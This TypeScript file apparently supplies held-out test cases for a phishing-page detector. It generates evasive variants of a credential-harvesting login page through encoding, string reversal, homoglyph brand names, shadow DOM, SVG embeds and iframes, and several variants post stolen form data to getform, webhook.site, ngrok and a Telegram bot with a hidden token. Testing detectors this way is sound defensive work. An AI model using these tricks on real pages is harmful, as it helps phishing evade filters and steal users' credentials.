import type { Files } from "./given-draft.ts"
import type { PhishingPage } from "./phishing-page.ts"
import type { Trick } from "./phishing-tricks.ts"
import { base64, documentOf, form, percent, quoted, render, sending, unitsOf } from "./render.ts"

const index = (html: string | Uint8Array): Files => ({ "index.html": html })
const whole = (page: PhishingPage) => page.top + form(page, `id="f" method="post"`) + page.foot
const empty = (page: PhishingPage, code: string) =>
  `<html lang="${page.lang}"><body><script type="text/javascript">${code}</script></body></html>`
const named = (page: PhishingPage, to: (name: string) => string): PhishingPage => {
  const change = (text: string) => text.replaceAll(page.brand.name, to(page.brand.name))
  return { ...page, title: change(page.title), top: change(page.top), foot: change(page.foot) }
}
const bold = (letter: string) =>
  /[a-z]/u.test(letter)
    ? String.fromCodePoint(0x1d41a + letter.charCodeAt(0) - 97)
    : /[A-Z]/u.test(letter)
      ? String.fromCodePoint(0x1d400 + letter.charCodeAt(0) - 65)
      : letter

/** Tricks that the rules were not written against: looked at once, when the rules were done. */
export const heldOutTricks: Readonly<Record<string, Trick>> = {
  "percent in decodeURIComponent": (page) =>
    index(empty(page, `document.write(decodeURIComponent('${percent(render(page))}'))`)),
  reversed: (page) =>
    index(empty(page, `document.write(${quoted([...render(page)].reverse().join(""))}.split("").reverse().join(""))`)),
  "comments between letters": (page) =>
    index(render({ ...page, top: page.top.replaceAll(page.brand.name, [...page.brand.name].join("<!-- x -->")) })),
  "template and custom element": (page) =>
    index(
      documentOf(
        page,
        `<template id="t">${whole(page)}</template><x-login></x-login><script>customElements.define("x-login",class extends HTMLElement{connectedCallback(){this.attachShadow({mode:"closed"}).append(t.content.cloneNode(true))}})</script>`,
      ),
    ),
  "bold letters": (page) => index(render(named(page, (name) => [...name].map(bold).join("")))),
  insertAdjacentHTML: (page) =>
    index(
      `<body><script>const a=${JSON.stringify(whole(page).match(/[\s\S]{1,24}/gu) ?? []).replaceAll("</", String.raw`<\/`)};document.title=${quoted(page.title)};document.body.insertAdjacentHTML("beforeend",a.join(""))</script></body>`,
    ),
  getform: (page) => index(render(page, { form: `action="https://getform.io/f/abcd1234" method="POST"` })),
  "webhook.site": (page) =>
    index(sending(page, `$.post("https://webhook.site/0a1b2c3d-1111-2222-3333-444455556666",d)`)),
  ngrok: (page) =>
    index(render(page, { form: `action="https://a1b2-203-0-113-5.ngrok-free.app/login" method="post"` })),
  "telegram by parts": (page) =>
    index(
      sending(
        page,
        `const t=atob("${base64("6712345678:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw")}");axios.post(\`https://\${"api.telegram"}.org/bot\${t}/sendDocument\`,d)`,
      ),
    ),
  "odd spelling": (page) =>
    index(
      render({
        ...page,
        fields: page.fields
          .replaceAll("<input", "<INPUT\n\tdata-x=1 /")
          .replaceAll(`type="password"`, `TYPE = 'PassWord'`),
      }).replace("<form", "<FoRm\n"),
    ),
  "embedded drawing": (page) => ({
    "index.html": `<!doctype html><title>Document</title><embed src="data:image/svg+xml;base64,${base64(
      `<svg xmlns="http://www.w3.org/2000/svg"><title>${page.title}</title><foreignObject width="500" height="700"><div xmlns="http://www.w3.org/1999/xhtml">${whole(page)}</div></foreignObject></svg>`,
    )}">`,
  }),
  "frame of another page": (page) => ({
    "index.html": `<!doctype html><html><head><title>${page.title}</title></head><body style="margin:0">${page.top}<iframe src="view/inner.html" frameborder="0"></iframe></body></html>`,
    "view/inner.html": `<!doctype html><body>${form(page, `action="process.php" method="post"`)}</body>`,
  }),
  "settings in JSON": (page) => ({
    "index.html": `<!doctype html><title>…</title><div id="root"></div><script type="module" src="boot.mjs"></script>`,
    "boot.mjs": `const c = await (await fetch("./page.json")).json();document.title = c.t;root.innerHTML = c.h;`,
    "page.json": JSON.stringify({ t: page.title, h: whole(page) }),
  }),
  "array of numbers": (page) =>
    index(
      empty(
        page,
        `var n=[${unitsOf(render(page))
          .map((unit) => unit + 7)
          .join()}];document.write(n.map(function(c){return String.fromCharCode(c-7)}).join(""))`,
      ),
    ),
}
